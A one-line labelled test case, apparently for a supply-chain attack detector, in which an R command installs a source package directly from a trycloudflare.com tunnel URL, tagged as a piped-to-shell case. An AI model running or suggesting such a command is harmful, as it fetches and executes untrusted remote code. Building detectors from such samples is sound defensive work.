# expect: piped-to-shell | source: T1195.002
install.packages("https://look.trycloudflare.com/look_1.0.tar.gz", repos = NULL, type = "source")
